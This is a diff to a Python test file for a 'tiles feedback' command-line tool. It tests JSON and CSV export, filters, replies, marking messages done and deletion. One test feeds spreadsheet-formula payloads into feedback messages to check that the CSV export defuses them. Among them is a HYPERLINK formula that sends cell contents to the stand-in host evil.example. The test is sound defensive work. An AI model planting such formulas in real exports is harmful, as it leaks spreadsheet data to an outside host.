@@ -1,12 +1,17 @@
-"""`tiles feedback list|export`, for the person at the terminal and for a script."""
+"""`tiles feedback`, for the person at the terminal and for a script."""
 
+import csv
+import io
 import json
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
 from journeys import MoveClock
-from support import Person, Service, any_database, invoke
+from support import Person, Service, any_database, invoke, text_of
+
+from backend import clock
+from backend.accounts.feedback import MESSAGE_LENGTH
 
 
 def send(service: Service, message: str, headers: dict[str, str] | None = None) -> dict[str, Any]:
@@ -45,21 +50,64 @@ def test_a_message_takes_one_line_of_the_list_and_cannot_write_over_it(service: 
 
 
 @any_database
-def test_the_export_holds_every_message_whole(service: Service, tmp_path: Path) -> None:
+def test_the_export_contains_all_or_the_filtered_messages_in_full(service: Service, tmp_path: Path) -> None:
     messages = ["word " * 700 + "end", "\N{RIGHT-TO-LEFT OVERRIDE}drawkcab", "Fewer."]
-    for message in messages:
-        send(service, message)
-    file = tmp_path / "feedback.json"
+    *_, done = (send(service, message) for message in messages)
+    file, today = tmp_path / "feedback", str(clock.now().date())
     assert invoke(service, "feedback", "export", "--output", str(file)).output == ""
     written = json.loads(file.read_text("utf-8"))
     assert {entry["message"] for entry in written["feedback"]} == set(messages)
     assert written == json.loads(invoke(service, "feedback", "export").stdout)
     assert written["feedback"] == json.loads(invoke(service, "feedback", "list", "--json").stdout)
+    invoke(service, "feedback", "done", done["id"])
+    exported = json.loads(invoke(service, "feedback", "export", "--state", "open").stdout)["feedback"]
+    assert {entry["message"] for entry in exported} == set(messages[:2])
+    options = ("--csv", "--state", "done", "--from", today, "--to", today)
+    assert invoke(service, "feedback", "export", *options, "--output", str(file)).output == ""
+    assert [row["id"] for row in csv.DictReader(io.StringIO(file.read_text("utf-8-sig")))] == [done["id"]]
+    assert "no such message" in invoke(service, "feedback", "list", "--to", "2020-01-31").stderr
+    assert "write a day such as" in invoke(service, "feedback", "list", "--to", "31.1.2027", status=2).stderr
 
 
 @any_database
-def test_without_feedback_a_person_is_told_so_and_a_script_gets_an_empty_list(service: Service) -> None:
+def test_no_message_is_a_formula_in_the_csv_export(service: Service, tmp_path: Path) -> None:
+    cells = ['=HYPERLINK("https://evil.example/?x="&A1,"See")', "+1", "-1", "@SUM(A1)", "\N{FULLWIDTH EQUALS SIGN}1+1"]
+    harmless = 'Harmless "quotes", a comma,\nand 1=1'
+    for message in (*cells, harmless):
+        send(service, message)
+    invoke(service, "feedback", "export", "--csv", "--output", str(tmp_path / "feedback.csv"))
+    text = (tmp_path / "feedback.csv").read_bytes().decode()
+    assert text.startswith('\ufeff"id","received_at","done_at","signed_in","message"\r\n')
+    rows = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
+    assert {row["message"] for row in rows} == {harmless, *(f"'{cell}" for cell in cells)}
+
+
+@any_database
+def test_without_feedback_the_output_says_so_and_json_is_an_empty_list(service: Service) -> None:
     empty = invoke(service, "feedback", "list")
     assert (empty.stdout, empty.stderr) == ("", "Nobody has written yet.\n")
     assert json.loads(invoke(service, "feedback", "list", "--json").stdout) == []
     assert json.loads(invoke(service, "feedback", "export").stdout) == {"feedback": []}
+
+
+def test_the_commands_reply_mark_and_delete(service: Service, ada: Person, tmp_path: Path) -> None:
+    feedback_id = str(send(service, "More tiles.", ada.headers)["id"])
+    for text in (b"", b"a" * (MESSAGE_LENGTH + 1), b"\xff\xfe", b"bell \x07"):
+        refused = invoke(service, "feedback", "reply", feedback_id, "-", "--yes", typed=text, status=1)
+        assert refused.stderr.startswith("Error: ")
+    assert service.rows("replies") == []
+    file = tmp_path / "reply.txt"
+    file.write_text("\ufeffThank you.\n\nWe add more.\n", "utf-8")
+    asked = invoke(service, "feedback", "reply", feedback_id, str(file), typed="y\n")
+    assert "Email this reply to the writer (0 were sent before)? [y/N]" in asked.stderr
+    assert "\n\nThank you.\n\nWe add more.\n\n" in text_of(service.mail())
+    invoke(service, "feedback", "reply", feedback_id, str(file), typed="n\n", status=1)
+    invoke(service, "feedback", "done", feedback_id)
+    assert " done  More tiles." in invoke(service, "feedback", "list").stdout
+    assert "Thank you." in invoke(service, "feedback", "show", feedback_id).stdout
+    invoke(service, "feedback", "reopen", feedback_id)
+    assert "for good" in invoke(service, "feedback", "delete", feedback_id, status=1).stderr
+    assert len(service.rows("feedback")) == 1
+    invoke(service, "feedback", "delete", feedback_id, "--yes")
+    assert service.rows("feedback") == []
+    assert "no message with this id" in invoke(service, "feedback", "show", feedback_id, status=1).stderr
